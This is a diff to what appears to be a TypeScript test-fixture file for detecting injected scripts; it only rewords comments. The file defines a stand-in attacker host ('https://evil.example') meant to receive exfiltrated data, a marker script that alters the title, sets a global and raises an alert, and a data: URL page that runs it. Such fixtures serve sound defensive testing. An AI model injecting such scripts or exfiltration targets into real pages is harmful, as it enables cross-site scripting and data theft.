@@ -1,7 +1,7 @@
-/** Where hostile content sends what it finds. Nothing of ours is ever asked for there. */
+/** Address to which hostile content sends data. Our code never requests it. */
 export const outside = 'https://evil.example'
 
-/** A script that shows everywhere when it runs: in the title, in a dialog, in the storage and on the wire. */
+/** A script that leaves traces wherever it runs: in the title, in a dialog, in the storage and in the network. */
 export const evil = [
   "document.title='evil'",
   'window.evil=1',
@@ -11,7 +11,7 @@ export const evil = [
   "alert('evil')",
 ].join(';')
 
-/** The same as an address of a page that runs it. */
+/** The same script as the address of a page that runs it. */
 export const evilPage = `data:text/html,%3Cscript%3E${encodeURIComponent(evil)}%3C/script%3E`
 
 export const base64 = (text: string): string => Buffer.from(text).toString('base64')
